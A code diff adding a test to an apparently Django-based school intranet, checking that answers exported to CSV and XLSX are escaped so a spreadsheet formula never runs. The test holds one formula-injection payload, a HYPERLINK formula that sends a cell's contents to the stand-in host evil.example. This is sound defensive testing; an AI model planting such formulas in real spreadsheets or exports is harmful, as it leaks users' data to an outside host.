@@ -193,6 +193,26 @@ def test_the_officer_closes_a_request(iw, login):
     assert "zamknięta" in page.content.decode()
 
 
+def test_an_answer_never_runs_as_a_formula_in_the_office_s_spreadsheet(iw, login):
+    req = form_request_create(iw.officer, [iw.a.school])
+    attack = '=HYPERLINK("https://evil.example/?"&A2,"klik")'
+    services.answer_save(
+        data_request=req,
+        school_id=iw.a.school.pk,
+        user=iw.a.head,
+        values=form_values(req, "12", False, attack),
+    )
+    client = login(iw.officer)
+    response = client.get(reverse("intranet:request_export", args=[req.pk, "csv"]))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1][7] == "'" + attack
+    response = client.get(reverse("intranet:request_export", args=[req.pk, "xlsx"]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c for c in cells if c.data_type == "f"]
+    assert "'" + attack in [c.value for c in cells]
+
+
 def test_downloads_csv_and_xlsx(iw, login):
     req = form_request_create(iw.officer, [iw.a.school, iw.b.school])
     services.answer_save(
